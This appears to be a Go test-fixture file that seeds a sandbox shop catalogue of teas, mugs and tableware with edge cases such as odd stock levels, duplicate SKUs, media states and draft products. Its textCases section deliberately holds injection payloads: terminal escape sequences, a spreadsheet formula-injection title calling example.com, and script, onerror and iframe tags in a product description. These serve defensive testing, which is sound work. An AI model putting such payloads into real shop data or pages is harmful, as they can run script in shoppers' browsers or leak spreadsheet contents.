package shops

import (
	"fmt"

	"github.com/eshopos/eshopctl/shopify/sandbox/catalogue"
)

// The products of the default shop, by what is remarkable about them.

func defaultProducts() []catalogue.NewProduct {
	var all []catalogue.NewProduct
	for _, shelf := range [][]catalogue.NewProduct{tablewareCases(), teaCases(), stockCases(), codeCases(), textCases(), mediaCases(), lifeCases()} {
		all = append(all, shelf...)
	}
	return all
}

func atWarehouse(n int) []catalogue.Stock {
	return []catalogue.Stock{{Location: WarehouseLocation, Available: n}}
}

func atBoth(warehouse, shop int) []catalogue.Stock {
	return []catalogue.Stock{{Location: WarehouseLocation, Available: warehouse}, {Location: ShopLocation, Available: shop}}
}

func pictureNamed(name, alt string) catalogue.NewMedia {
	return catalogue.NewMedia{URL: "https://cdn.shopify.com/s/files/1/0001/" + name + ".jpg?v=1", Alt: textOrNil(alt)}
}

// singleProduct makes a product with one default variant.
func singleProduct(title, sku, price string, stock []catalogue.Stock) catalogue.NewProduct {
	return catalogue.NewProduct{
		Title: title, Vendor: "Tea & Cups", Type: "Tableware", DescriptionHTML: "<p>" + title + ".</p>",
		CategoryID: "hg-11-10", CategoryName: "Home & Garden > Kitchen & Dining > Tableware",
		Variants: []catalogue.NewVariant{{SKU: textOrNil(sku), Price: price, Weight: 0.4, Stock: stock}},
	}
}

func tablewareCases() []catalogue.NewProduct {
	mug := catalogue.NewProduct{
		Title: "Enamel Mug", Vendor: "Falcon", Type: "Mugs", Tags: []string{"mug", "outdoor"},
		DescriptionHTML: "<p>Chip-resistant <b>enamel</b> mug.</p>",
		SEOTitle:        new("Enamel mug, 350 ml"), SEODescription: new("A mug for the garden."),
		Options: []catalogue.NewOption{{Name: "Colour", Values: []string{"White", "Blue", "Discontinued Red"}}, {Name: "Size", Values: []string{"350 ml", "500 ml"}}},
		Media:   []catalogue.NewMedia{pictureNamed("mug-white", "White mug"), pictureNamed("mug-blue", "Blue mug"), pictureNamed("mug-group", "")},
	}
	for i, values := range [][]string{{"White", "350 ml"}, {"White", "500 ml"}, {"Blue", "350 ml"}, {"Blue", "500 ml"}} {
		mug.Variants = append(mug.Variants, catalogue.NewVariant{
			Values: values, SKU: new(fmt.Sprintf("MUG-%d", i+1)), Barcode: new(fmt.Sprintf("501234567%04d", i)),
			Price: "9.50", CompareAtPrice: "12.00", Cost: "3.10", Weight: 180, WeightUnit: "GRAMS",
			Stock: atBoth(20+i, 5), Media: []int{i / 2},
		})
	}
	teapot := singleProduct("Stoneware Teapot", "POT-1", "38.00", atBoth(11, 2))
	teapot.Tags = []string{"teapot", "Stoneware", "gift"}
	teapot.Media = []catalogue.NewMedia{pictureNamed("teapot", "Teapot from the side")}
	cups := catalogue.NewProduct{
		Title: "Porcelain Cup", Vendor: "Wilder Porcelain", Type: "Cups", Tags: []string{"cup"},
		Options: []catalogue.NewOption{{Name: "Glaze"}, {Name: "Handle"}, {Name: "Set"}},
	}
	for i := range 60 {
		cups.Variants = append(cups.Variants, catalogue.NewVariant{
			Values: []string{fmt.Sprintf("Glaze %d", i/6+1), []string{"Left", "Right", "None"}[i/2%3], []string{"Single", "Pair"}[i%2]},
			SKU:    new(fmt.Sprintf("CUP-%02d", i+1)), Price: fmt.Sprintf("%d.00", 14+i%2*10), Weight: 6.5, WeightUnit: "OUNCES",
			Stock: atWarehouse(i),
		})
	}
	return []catalogue.NewProduct{mug, teapot, cups, singleProduct("Milk Jug", "JUG-1", "16.00", atBoth(8, 3)), singleProduct("Matcha Bowl", "BOWL-1", "24.50", atBoth(6, 1))}
}

func teaCases() []catalogue.NewProduct {
	tea := func(title, sku, price string, tags ...string) catalogue.NewProduct {
		p := singleProduct(title, sku, price, atBoth(40, 12))
		p.Type, p.Vendor, p.Tags = "Tea", "Hillside Estates", append(tags, "tea")
		p.CategoryID, p.CategoryName = "fb-1-13", "Food, Beverages & Tobacco > Beverages > Tea & Infusions"
		return p
	}
	breakfast := tea("Breakfast Tea", "TEA-BRK", "6.20", "black")
	sold := tea("Sold-out Darjeeling", "TEA-DAR", "14.00", "black", "first, flush")
	sold.Variants[0].Stock = atBoth(0, 0)
	old := tea("Smoked Souchong", "TEA-SOU", "8.00", "black", "discontinued")
	return []catalogue.NewProduct{breakfast, tea("Earl Grey", "TEA-EGR", "6.80", "black"), tea("Sencha", "TEA-SEN", "9.90", "green"), sold, old}
}

// stockCases: untracked, negative, stocked nowhere, for sale without stock, weightless.
func stockCases() []catalogue.NewProduct {
	workshop := singleProduct("Tea Tasting Workshop", "EVT-1", "45.00", atWarehouse(0))
	workshop.Type = "Event"
	workshop.Variants[0].Untracked, workshop.Variants[0].NotShipped, workshop.Variants[0].Weight = true, true, 0
	oversold := singleProduct("Cast Iron Kettle", "KET-1", "79.00", atBoth(-3, 1))
	oversold.Variants[0].ContinueSelling = true
	nowhere := singleProduct("Custom Engraving", "ENG-1", "0.00", nil)
	nowhere.Variants[0].NotTaxable = true
	cosy := catalogue.NewProduct{
		Title: "Wool Tea Cosy", Vendor: "Dales Wool", Type: "Textiles", Tags: []string{"wool"},
		Options: []catalogue.NewOption{{Name: "Colour", Values: []string{"Burgundy", "Moss"}}},
		Variants: []catalogue.NewVariant{
			{Values: []string{"Burgundy"}, SKU: new("COSY-B"), Price: "22.00", CompareAtPrice: "22.00", Stock: atWarehouse(5)},
			{Values: []string{"Moss"}, SKU: new("COSY-M"), Price: "22.00", CompareAtPrice: "0.00", Weight: 0.5, WeightUnit: "POUNDS"},
		},
	}
	return []catalogue.NewProduct{workshop, oversold, nowhere, cosy}
}

// codeCases: missing, empty, blank and doubled SKUs and barcodes, and a real option called Title.
func codeCases() []catalogue.NewProduct {
	none := singleProduct("Tea Towel", "", "7.50", atWarehouse(30))
	empty := singleProduct("Coaster", "", "3.00", atWarehouse(90))
	empty.Variants[0].SKU, empty.Variants[0].Barcode = new(""), new("")
	blank := singleProduct("Sugar Tongs", " ", "11.00", atWarehouse(4))
	twin := singleProduct("Tea Strainer Silver", "STR-1", "12.00", atWarehouse(14))
	twin.Variants[0].Barcode = new("5012345670001")
	other := singleProduct("Tea Strainer Steel", "STR-1", "8.00", atBoth(25, 6))
	other.Variants[0].Barcode = new("5012345670001")
	lower := singleProduct("Tea Strainer Mesh", "str-1", "5.00", atWarehouse(2))
	book := catalogue.NewProduct{
		Title: "A Year of Tea (book)", Type: "Books", Options: []catalogue.NewOption{{Name: "Title"}},
		Variants: []catalogue.NewVariant{
			{Values: []string{"Hardback"}, SKU: new("BOOK-H"), Barcode: new("9780000000019"), Price: "25.00", Stock: atWarehouse(7)},
			{Values: []string{"Paperback"}, SKU: new("BOOK-P"), Price: "12.00", Stock: atWarehouse(16)},
		},
	}
	return []catalogue.NewProduct{none, empty, blank, twin, other, lower, book}
}

// textCases: scripts of the world, and texts that mean mischief to terminals, browsers and spreadsheets.
func textCases() []catalogue.NewProduct {
	japanese := singleProduct("抹茶セット 🍵", "茶-01", "64.00", atWarehouse(3))
	japanese.Handle, japanese.Vendor, japanese.Tags = "抹茶セット", "株式会社 緑", []string{"抹茶", "tea", "日本"}
	arabic := singleProduct("إبريق شاي مغربي", "POT-MA", "41.00", atBoth(4, 1))
	arabic.Handle, arabic.DescriptionHTML = "moroccan-teapot", `<p dir="rtl">إبريق شاي تقليدي</p>`
	escapes := singleProduct("Clear\x1b[2J\x1b[H Glass \x1b]0;owned\a Pot", "ESC-1", "19.00", atWarehouse(2))
	escapes.Handle, escapes.Vendor = "clear-glass-pot", "Glass\x1b[31m Works\x1b[0m"
	formula := singleProduct(`=HYPERLINK("http://example.com/?x="&A1,"Offer")`, "+SUM(1)", "1.00", atWarehouse(1))
	formula.Handle, formula.Tags = "spreadsheet-offer", []string{"@cmd", "-1+1"}
	script := singleProduct("Chamomile <b>& Honey</b>", "TEA-CHA", "5.40", atWarehouse(18))
	script.Handle = "chamomile-honey"
	script.DescriptionHTML = `<p>Calm.</p><script>alert("hello")</script><img src=x onerror="alert(1)"><iframe src="https://example.com"></iframe>`
	old := singleProduct("Old\tSystem\r\nImport \x01\x02\x7f \u0085", "OLD-1", "2.00", atWarehouse(1))
	old.Handle, old.DescriptionHTML, old.Type, old.Vendor = "old-system-import", "", "", ""
	old.CategoryID = ""
	return []catalogue.NewProduct{japanese, arabic, escapes, formula, script, old}
}

// mediaCases: media that is not ready, failed, or no picture at all.
func mediaCases() []catalogue.NewProduct {
	arriving := singleProduct("Spring Tea Tin", "TIN-1", "4.50", atWarehouse(10))
	arriving.Media = []catalogue.NewMedia{
		{URL: "https://cdn.shopify.com/s/files/1/0001/tin.jpg", Status: "PROCESSING", Alt: new("Tin")},
		{URL: "https://cdn.shopify.com/s/files/1/0001/tin-broken.jpg", Status: "FAILED"},
		{URL: "https://cdn.shopify.com/s/files/1/0001/tin-back.jpg", Status: "UPLOADED"},
		pictureNamed("tin-top", "Tin from above"),
	}
	film := singleProduct("Pour-over Set", "POUR-1", "33.00", atBoth(5, 5))
	film.Media = []catalogue.NewMedia{
		pictureNamed("pour", "Set"),
		{Type: catalogue.ExternalVideoMedia, URL: "https://www.youtube.com/watch?v=dQw4w9WgXcQ", Alt: new("How to pour")},
		{Type: catalogue.VideoMedia, URL: "https://cdn.shopify.com/videos/c/o/v/pour.mp4"},
		{Type: catalogue.ModelMedia, URL: "https://cdn.shopify.com/3d/models/pour.glb", Alt: new("Model")},
	}
	gift := singleProduct("Gift Set Mug and Tea", "GIFT-1", "15.00", atWarehouse(12))
	gift.Type = "Gift"
	return []catalogue.NewProduct{arriving, film, gift}
}

// lifeCases: products that are not, not yet or no longer for sale, and one that is money.
func lifeCases() []catalogue.NewProduct {
	draft := singleProduct("Autumn Blend (draft)", "TEA-AUT", "7.00", nil)
	draft.Status = "DRAFT"
	archived := singleProduct("Jubilee Mug", "JUB-1", "10.00", atWarehouse(1))
	archived.Status = "ARCHIVED"
	unlisted := singleProduct("Friends and Family Tin", "FAM-1", "5.00", atWarehouse(50))
	unlisted.Status = "UNLISTED"
	hidden := singleProduct("Counter Display Cup", "DISP-1", "2.50", []catalogue.Stock{{Location: ShopLocation, Available: 6}})
	hidden.Unpublished = true
	card := catalogue.NewProduct{
		Title: "Gift Card", Vendor: "Tea & Cups", Type: "Gift Cards", GiftCard: true,
		Options: []catalogue.NewOption{{Name: "Denominations"}},
	}
	for _, amount := range []string{"10.00", "25.00", "50.00"} {
		card.Variants = append(card.Variants, catalogue.NewVariant{
			Values: []string{"£" + amount}, Price: amount, Untracked: true, NotShipped: true, NotTaxable: true,
		})
	}
	return []catalogue.NewProduct{draft, archived, unlisted, hidden, card}
}
